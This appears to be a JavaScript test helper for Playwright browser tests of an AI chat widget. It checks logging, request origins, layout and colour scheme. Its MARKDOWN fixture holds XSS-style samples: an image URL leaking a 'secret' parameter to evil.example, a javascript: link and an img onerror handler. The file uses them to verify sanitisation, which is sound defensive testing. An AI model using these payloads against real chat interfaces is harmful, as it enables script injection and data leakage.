// The page of the quickstart in headless Chromium. The suite records what the page logs and requests.

import assert from 'node:assert/strict';
import { mkdir } from 'node:fs/promises';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';

const OUT = fileURLToPath(new URL('./out/', import.meta.url));

// Without these flags, Chromium requests updates and settings from its vendor at every start.
const QUIET = [
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
];

/** Opens a browser. `hosts` maps names to addresses, as in `MAP evil.test 127.0.0.1`. */
export async function openBrowser(hosts = '') {
  return chromium.launch({
    executablePath: process.env.CHROMIUM_BIN ?? '/usr/bin/chromium',
    // The sandbox of Chromium refuses to run as root.
    chromiumSandbox: process.getuid?.() !== 0,
    args: hosts ? [...QUIET, `--host-resolver-rules=${hosts}`] : QUIET,
  });
}

/**
 * Starts an app and a browser for the tests of one file. Returns a function that adds a test. Each test has its own
 * page, which must log no error. `path`: the page to open. A page that is left while it loads logs failed requests.
 */
export function suiteOn(start) {
  let app;
  let browser;
  before(async () => {
    app = await start();
    browser = await openBrowser();
  });
  after(async () => {
    await browser?.close();
    await app?.stop();
  });
  return (name, run, path = '/') =>
    test(name, { timeout: 60_000 }, async () => {
      const view = await openPage(browser, app, { path });
      try {
        await run(view, app);
      } catch (error) {
        await view.screenshot(`failed-${name.replace(/\W+/g, '-')}`);
        throw error;
      }
      await view.close();
    });
}

const ELEMENT = 'omniassist-chat';
/** The selectors of the widget. Its send button is the stop button while an answer arrives. */
const WIDGET = {
  input: '[part~=composer] [part~=input]',
  send: '[part~=send-button]:not([data-busy])',
  stop: '[part~=send-button][data-busy]',
  retry: '[part~=retry-button]',
  clear: '[part~=new-button]',
  error: '[part=notice]',
  threads: '[part~=threads-button]',
};
/** The selectors of a chat that a page draws itself. */
const CHAT = {
  input: '#chat-input',
  send: '#chat-send',
  stop: '#chat-stop',
  retry: '#chat-retry',
  clear: '#chat-clear',
  error: '#chat-error',
};

/** Runs in the page. `chatState()` returns the status of the chat and, of the widget, the number of runs that began. */
function countRuns() {
  let runs = 0;
  let counted;
  window.chatState = () => {
    const { chat } = document.querySelector('omniassist-chat') ?? {};
    return chat ? { status: chat.status, runs } : { status: document.querySelector('#chat')?.dataset.status };
  };
  addEventListener('DOMContentLoaded', async () => {
    const element = document.querySelector('omniassist-chat');
    if (!element) return;
    await customElements.whenDefined('omniassist-chat');
    const { chat } = element;
    const isBusy = () => ['submitted', 'streaming'].includes(chat.status);
    counted = isBusy();
    runs += Number(counted);
    chat.subscribe(() => {
      if (isBusy() && !counted) runs += 1;
      counted = isBusy();
    });
  });
}

/**
 * Opens a page of an app in its own browser context. `app.serve` can serve other pages in it. `ms`: the longest time for
 * an answer.
 */
export async function openPage(browser, app, { ms = 15_000, path = '/' } = {}) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  await app.serve?.(context);
  const page = await context.newPage();
  page.setDefaultTimeout(ms);
  const problems = [];
  const strangers = [];
  const runs = [];
  const stops = [];
  page.on('console', (message) => {
    if (['error', 'warning'].includes(message.type())) problems.push(`${message.type()}: ${message.text()}`);
  });
  page.on('pageerror', (error) => problems.push(String(error)));
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.origin !== app.origin && !['data:', 'blob:'].includes(url.protocol)) strangers.push(request.url());
    if (request.method() !== 'POST') return;
    if (/^\/assistant(\/copilotkit\/agent\/default\/run)?$/.test(url.pathname)) runs.push(request.postDataJSON());
    else if (url.pathname.startsWith('/assistant/')) stops.push(url.pathname);
  });
  await page.addInitScript(countRuns);
  await page.goto(app.origin + path);
  const isWidget = (await page.locator(ELEMENT).count()) > 0;
  const parts = isWidget ? WIDGET : CHAT;
  /** The runs that `settled` has waited for. */
  let settledRuns = 0;
  page.on('framenavigated', () => (settledRuns = 0));
  const isSettled = async (words, timeout) => {
    await page.waitForFunction(
      ([words, before]) => {
        const { status, runs } = window.chatState();
        return words.includes(status) && (runs === undefined || runs > before);
      },
      [words, settledRuns],
      { timeout },
    );
    settledRuns = (await page.evaluate(() => window.chatState().runs)) ?? 0;
    await drawn();
  };
  /** Waits until the widget has drawn what has changed, which it does in the next frame. */
  const drawn = () => page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));

  const answers = page.locator('[data-role=assistant]');
  return {
    page,
    /** The bodies that the page posted to the assistant. */
    runs,
    /** The paths below the assistant's that the page posted to. */
    stops,
    /** The errors and warnings in the log of the page. */
    problems,
    answer: () => answers.last(),
    answers,
    tool: (name) => answers.last().locator(`[data-tool-name="${name}"]`),
    /** The selectors of the field, the buttons and the error of the chat. */
    parts,
    /** Waits until the widget has loaded its chat. */
    loaded: () => page.evaluate(() => document.querySelector('omniassist-chat').chat.ready),
    /** Loads the page again, and waits until the widget has drawn its chat. */
    async reload() {
      await page.reload();
      await this.loaded();
      await drawn();
    },
    async type(question) {
      if (isWidget) await this.loaded();
      const runs = await page.evaluate(() => window.chatState().runs);
      await page.fill(parts.input, question);
      await page.click(parts.send);
      if (isWidget) await page.waitForFunction((before) => window.chatState().runs > before, runs);
    },
    /** Waits until a run that began after the last wait has ended or failed. */
    settled: (timeout = ms) => isSettled(['ready', 'error'], timeout),
    /** Waits until such a run has ended without an error. */
    completed: (timeout = ms) => isSettled(['ready'], timeout),
    status: () => page.evaluate(() => window.chatState().status),
    /** Returns the part or the id of the element with the focus, in shadow trees too. */
    focused: () =>
      page.evaluate(() => {
        let active = document.activeElement;
        while (active.shadowRoot?.activeElement) active = active.shadowRoot.activeElement;
        return active.part[0] ?? active.id;
      }),
    async ask(question) {
      await this.type(question);
      await this.settled();
      const isReady = (await this.status()) === 'ready';
      assert.ok(isReady, isReady || (await page.innerText(parts.error)));
    },
    async screenshot(name) {
      await mkdir(OUT, { recursive: true });
      await page.screenshot({ path: `${OUT}${name}.png` });
    },
    /** Closes the page. Fails if it logged an error or sent a request to another server. */
    async close() {
      await context.close();
      assert.deepEqual(problems, [], `the page logs no error or warning: ${problems[0]}`);
      assert.deepEqual(strangers, [], 'no request leaves the origin');
    },
  };
}

/** An answer with every kind of Markdown, an image whose request would leak data to another server, and links. */
export const MARKDOWN = `# A title

Some **bold** text and \`code\`.

- one
- two

| Name | Sum |
|---|---|
| Ada | 12 |

[A site](https://example.com/x) ![chart](https://evil.example/p.png?secret=1) [script](javascript:document.title="pwned")
<img src="https://evil.example/q.png" onerror="document.title='pwned'">`;

/** Checks that an answer shows `MARKDOWN` as elements, and that nothing in it is loaded or run. */
export async function showsMarkdown(view, answer) {
  const count = (selector) => answer.locator(selector).count();
  await answer.getByText('A site').waitFor();
  assert.equal(await count('strong, [data-streamdown=strong]'), 1);
  assert.deepEqual([await count('li'), await count('td')], [2, 2]);
  assert.doesNotMatch(await answer.innerText(), /\*\*|\|---/);
  assert.equal(await count('img[src*="evil"]'), 0, 'no image of another server');
  assert.equal(await count('a[href^="javascript"]'), 0);
  assert.notEqual(await view.page.title(), 'pwned');
  assert.match(await answer.innerText(), /chart \(evil\.example\)/, 'the target of the image is visible');
}

/** Checks the page on a phone: nothing is wider than the screen, and `element` is on it. */
export async function fitsPhone(view, element) {
  const box = await element.boundingBox();
  assert.ok(box && box.x >= 0 && box.x + box.width <= 375 && box.y >= 0 && box.y + box.height <= 667, JSON.stringify(box));
  assert.equal(await view.page.evaluate(() => document.documentElement.scrollWidth), 375);
}
export const PHONE = { width: 375, height: 667 };

/** Returns the lightness of the background of a page, from 0 to 1. */
export const lightness = (view) =>
  view.page.evaluate(() => {
    const ground = getComputedStyle(document.documentElement).backgroundColor.match(/\d+/g);
    return ground.slice(0, 3).reduce((sum, part) => sum + Number(part), 0) / 765;
  });

/** Checks that the page follows the colour scheme of the system. */
export async function followsColourScheme(view) {
  await view.page.emulateMedia({ colorScheme: 'light' });
  assert.ok((await lightness(view)) > 0.8);
  await view.page.emulateMedia({ colorScheme: 'dark' });
  assert.ok((await lightness(view)) < 0.2);
}

/**
 * Sends the requests of a page to another server while `run` runs, as after a restart, and stops that server. Answers are
 * not streamed.
 */
export async function whileOn(view, server, run) {
  try {
    await view.page.route(/\/(assistant|api)\b/, async (route) => {
      const { pathname, search } = new URL(route.request().url());
      const { origin, host, 'sec-fetch-site': site, ...headers } = route.request().headers();
      const response = await route.fetch({ url: `${server.origin}${pathname}${search}`, headers });
      await route.fulfill({ response });
    });
    await run();
  } finally {
    // A request of the page may still be open here. Its failure is not an error of the test.
    await view.page.unrouteAll({ behavior: 'ignoreErrors' });
    await server.stop();
  }
}

/** Forgets the failed requests in the log of a page whose server was gone. */
export const forgive = (view) =>
  assert.ok(view.problems.splice(0).every((line) => /net::ERR|status of 50\d/.test(line)), 'the browser logs failed requests');

/** Returns the text of the assistant, without reasoning and tools. */
export const prose = async (answer) => (await answer.locator('[data-part=text]').allInnerTexts()).join('\n');
